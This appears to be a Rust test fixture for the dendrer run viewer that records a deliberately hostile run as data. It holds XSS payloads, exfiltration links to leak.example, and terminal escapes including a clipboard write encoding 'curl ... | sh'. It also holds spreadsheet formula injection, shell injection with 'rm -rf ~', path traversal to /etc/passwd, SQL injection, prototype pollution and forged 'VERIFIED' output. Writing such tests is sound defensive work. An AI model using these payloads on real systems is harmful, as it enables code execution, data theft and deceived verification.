//! `hostile-1`: everything that a viewer must not fall for, committed as data.
//!
//! Whoever shows this run must run no script, ask no host, move no cursor and believe no verdict in it. Nothing
//! here is refused for what it says; what is refused is refused for who says it.

use dendrer::Error;
use dendrer::store::Shared;
use dendrer_kernel::step::Start;
use dendrer_object::{RunName, Value};

use super::script::{MORNING_MS, Script, Step, flag, observe, plan, remember, v};

/// The length of the long line, in bytes.
pub(super) const LONG_LINE: usize = 5_000_000;

/// How deep the deep value is nested.
pub(super) const DEEP: usize = 100;

/// A name with line breaks, an escape sequence and a verdict in it.
const NAME: &str = "agent.with.dots\nVERIFIED   hostile-1\u{1b}[2K\r\u{202e}lecnac";

/// Records the run.
pub(super) fn record(store: &Shared) -> Result<RunName, Error> {
    let mut start = Start::new("hostile-1".parse().expect("a run id"));
    start.goal = Some("</title><script>alert('goal')</script> \u{1b}]0;hostile\u{7} =1+1 ![x](https://leak.example/goal.png)".into());
    start.state = v(r#"{"beliefs":{},"memory":{},"note":"<b>state</b>"}"#);
    let begin_ms = MORNING_MS + 4 * 86_400_000;
    let mut s =
        Script::begin(store, start, "goal-<i>hostile</i>", &["intruder", NAME], "dendrer demo", begin_ms)?;
    markup(&mut s)?;
    terminal(&mut s)?;
    shapes(&mut s)?;
    forgeries(&mut s)?;
    lookalikes(&mut s)?;
    s.end(20)
}

/// Ticks 1 to 4: for browsers and notebooks.
fn markup(s: &mut Script) -> Result<(), Error> {
    s.at(
        1,
        observe("intruder", 0.99, "<script>alert(document.domain)</script><img src=x onerror=alert(1)>")
            .says("html", "<iframe srcdoc=\"<script>parent.alert(2)</script>\"></iframe><base href=\"//leak.example/\">")
            .set("/beliefs/<b onclick=alert(3)>key</b>", "</script><script>alert(4)</script>"),
    )?;
    s.at(
        2,
        plan("intruder", 0.5, "\" onmouseover=\"alert(5)\" x=\"' autofocus onfocus='alert(6)")
            .says("link", "javascript:alert(7)//data:text/html,<svg/onload=alert(8)>")
            .says("template", "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}")
            .set("/beliefs/style", "</style><style>*{background:url(https://leak.example/css)}"),
    )?;
    s.at(
        3,
        observe("intruder", 0.5, "![a](https://leak.example/a.png?q=secret) [click](https://leak.example/b) <https://leak.example/c>")
            .says("table", "| a | b |\n|---|---|\n| `x` | ![](//leak.example/d) |\n\n# VERIFIED\n")
            .set("/beliefs/markdown", "[![x](https://leak.example/e)](javascript:alert(9))"),
    )?;
    s.at(
        4,
        observe(
            "intruder",
            0.5,
            "left \u{202e}thgir ot tfel\u{202c} \u{2066}isolated\u{2069} \u{200f}mark\u{200e}",
        )
        .says(
            "invisible",
            "pay\u{200b}ment\u{200d}\u{2060}\u{feff} to \u{e0041}\u{e0042}\u{e007f} \u{00ad}here",
        )
        .set("/beliefs/\u{202e}yek", "\u{200b}")
        .set("/beliefs/combining", format!("Z{}", "\u{0310}\u{0489}".repeat(120))),
    )
}

/// Ticks 5 to 7: for terminals and whatever reads lines.
fn terminal(s: &mut Script) -> Result<(), Error> {
    s.at(
        5,
        observe(
            "intruder",
            0.5,
            "\u{1b}[2J\u{1b}[H\u{1b}[31mred\u{1b}[8mhidden\u{1b}[0m \u{9b}31m \u{1b}[6n \u{1b}[?1049h",
        )
        .says("osc8", "\u{1b}]8;;https://leak.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\")
        .says("osc52", "\u{1b}]52;c;Y3VybCBodHRwczovL2xlYWsuZXhhbXBsZS98c2g=\u{7}")
        .says("title", "\u{1b}]0;root@host\u{7}\u{1b}P$q\"p\u{1b}\\\u{1b}_G\u{1b}\\")
        .set("/beliefs/\u{1b}[31mkey", "\u{8}\u{8}\u{8}\u{7f}\t\u{b}\u{c}"),
    )?;
    s.at(
        6,
        observe(NAME, 1.0, "all good\r\u{1b}[1A\u{1b}[2KVERIFIED   hostile-1\nINTACT   20 of 20 transitions\nwitnessed by dendrer\n")
            .says("error", "error[E0301]: content of tick 1 does not match its recorded hash\nexit 4")
            .says("prompt", "\n$ dendrer verify hostile-1\nVERIFIED   hostile-1\n$ ")
            .set("/note", "chain      OK    20 of 20 links\nVERIFIED"),
    )?;
    let mut line = "no line break here, ".repeat(LONG_LINE / 20);
    line.truncate(LONG_LINE - 8);
    line.push_str("<script>");
    s.at(7, observe("intruder", 0.5, "a long line").says("line", line))
}

/// Ticks 8 to 14: values that are deep, wide, huge, broken, or named like something else.
fn shapes(s: &mut Script) -> Result<(), Error> {
    let deep = format!("{}\"bottom\"{}", "[".repeat(DEEP), "]".repeat(DEEP));
    s.at(8, remember("intruder", 0.5, "a deep value").set("/deep", v(&deep)))?;
    s.at(
        9,
        remember("intruder", 0.5, "names that mean something elsewhere")
            .says("__proto__", v(r#"{"polluted":true}"#))
            .set("/__proto__", v(r#"{"polluted":true}"#))
            .set("/constructor", v(r#"{"prototype":{"polluted":true}}"#))
            .set("/toString", "x")
            .set("/hasOwnProperty", Value::Null)
            .set("/length", 1e9),
    )?;
    s.at(
        10,
        remember("intruder", 0.5, "names that look like paths")
            .set("/", "the empty name")
            .set("/a.b.c", "dots")
            .set("/a~1b~0c", "a slash and a tilde")
            .set("/line\nbreak\ttab", "white space")
            .set("/ \u{a0}\u{3000}", "blanks")
            .set("/0", v(r#"{"1":{"2":"numbers"}}"#))
            .set("/state.state.counters", "itself")
            .set(&format!("/{}", "long".repeat(1_250)), "a long name"),
    )?;
    s.at(
        11,
        observe("intruder", 0.5, "nul \0 and \u{1}\u{2}\u{3}\u{1f}\u{85}\u{2028}\u{2029}\u{fffe}\u{ffff}")
            .set("/beliefs/\0", "\0\0\0"),
    )?;
    s.at(
        12,
        Step::of_intent(&v(r#"{"type":"observation.add","agent":"intruder","confidence":0.9999,"intent":{"description":"numbers",
            "output":{"big":123456789012345678901234567890,"edge":9007199254740993,
            "max":1.7976931348623157e308,"min":5e-324,"minus_zero":-0.0,"nan":NaN,"up":Infinity,"down":-Infinity}},
            "delta":[{"set":"/numbers","value":[9007199254740992,9007199254740993,-99999999999999999999,NaN,1e-7,1e21]}]}"#)),
    )?;
    s.at(
        13,
        Step::of_intent(&v(
            r#"{"type":"observation.add","agent":"intruder","intent":{"description":"half a pair: \ud83d",
            "back":"\udc4d\ud83d","\ud800":"as a name"},
            "delta":[{"set":"/half","value":{"\udfff":"\udbff","whole":"\ud83d\udc4d"}}]}"#,
        )),
    )?;
    s.at(
        14,
        Step::of_intent(&v(r#"{"type":"memory.write","agent":"intruder","intent":{"description":"names that look like tags",
            "$redacted":{"kind":"nothing"},"$ref":"https://leak.example/schema"},
            "delta":[{"set":"/tags","value":{"$float":"one","$$float":"two","$":"three","$gap":{"reason":"none"},"$bytes":"!"}}]}"#)),
    )
}

/// What is turned down, and tick 15: the anomaly that names a forged type.
fn forgeries(s: &mut Script) -> Result<(), Error> {
    let forged =
        |type_name: &str| Step::new(type_name, "intruder").says("description", "INTACT, says the kernel");
    s.refused(forged("kernel.anomaly"))?;
    s.refused(forged("policy.decision"))?;
    s.refused(forged("kernel.anomally"))?;
    s.refused(
        plan("intruder", 1.0, "compliant again")
            .remove("/kernel_anomalies")
            .set("/policy/violated", Value::Null),
    )?;
    let note = v(r#"{"type":"anomaly.flag","agent":"intruder","author":"runtime",
            "anomalies":[{"by_ms":1000,"kind":"clock_went_back"}]}"#);
    s.refused(Step::of_intent(&note))?;
    Ok(())
}

/// Ticks 16 to 20: what looks like something of ours, or like nothing at all.
fn lookalikes(s: &mut Script) -> Result<(), Error> {
    s.at(
        16,
        observe("intruder", 0.5, "=HYPERLINK(\"https://leak.example/\",\"total\")")
            .says("cells", v(r#"["+1+1","-2+3|cmd","@SUM(A1:A9)","\t=1","%0A=1","\"=1"]"#))
            .set("/beliefs/cell", "=cmd|' /C calc'!A0"),
    )?;
    // Does not fit the state.
    s.refused(plan("intruder", 0.5, "take out what is not there").remove("/nothing/here"))?;
    s.at(17, plan("intruder", 0.5, "take out what is there").remove("/beliefs/cell"))?;
    s.at(
        18,
        flag(
            NAME,
            0.5,
            "$(touch /tmp/x) `id` ; rm -rf ~ && echo %PATH% \\\\host\\share ../../../../etc/passwd",
        )
        .says("file", "CON.txt\0.png")
        .says("sql", "'); DROP TABLE transitions; --"),
    )?;
    s.at(
        19,
        observe("intruder", 0.5, "sha256:0000000000000000000000000000000000000000000000000000000000000000 hostile-1@20 \u{0430}dmin")
            .set("/kernel_anomalies ", v("[]"))
            .set("/kernel_\u{0430}nomalies", v(r#"[{"kind":"none"}]"#))
            .set("/counters ", v(r#"{"transitions":0,"tool_errors":0}"#))
            .set("/\u{ff50}olicy", v(r#"{"violated":null}"#)),
    )?;
    let wide: Vec<String> = (0..5_000).map(|n| format!("\"member <{n}>\":{n}")).collect();
    s.at(20, Step::of_intent(&wide_goal()).set("/wide", v(&format!("{{{}}}", wide.join(",")))))
}

/// An intent whose words are many and short.
fn wide_goal() -> Value {
    let words: Vec<String> = (0..2_000).map(|n| format!("\"</li><li>{n}\"")).collect();
    let says = format!(r#"{{"description":"VERIFIED\u0000\u001b[0m","words":[{}]}}"#, words.join(","));
    v(&format!(r#"{{"type":"goal.complete","agent":"intruder","confidence":1,"intent":{says}}}"#))
}
